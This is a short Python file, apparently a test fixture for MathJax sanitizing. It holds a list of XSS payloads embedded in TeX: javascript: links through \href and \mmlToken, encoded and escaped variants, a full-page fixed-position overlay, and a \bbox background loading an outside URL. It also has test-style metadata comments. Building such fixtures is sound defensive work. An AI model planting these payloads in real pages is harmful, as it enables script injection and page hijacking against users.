r"""Links in mathematics.

MathJax draws formulas in the finished page, and `\href`, `\mmlToken` and `\style` in one are links, attributes and styles of that
page. They are raised, printed and spelled in other ways: by entities, by two backslashes, in displays and in environments.
"""
# seen: href{javascript:alert(1)}{14}
# answers: square_sum

# %% attack
LINKS = (
    r"$\href{javascript:alert(1)}{14}$ \\(\mmlToken{mi}[href='javascript:alert(2)']{14}\\) "
    r"&#36;&#92;href{javascript:alert(3)}{14}&#36; \begin{align}\style{position:fixed;inset:0}{14}\end{align} "
    r"$$\\href{javascript:alert(4)}{14}$$ $\require{html}\cssId{toc}{14}$ "
    r"\\&#104;ref{javascript:alert(5)}{14} \begin{a}\bbox[position:fixed;background:url(//elsewhere.example)]{14}\end{a}"
)


def mischief():
    print(LINKS)
    raise ValueError(LINKS)
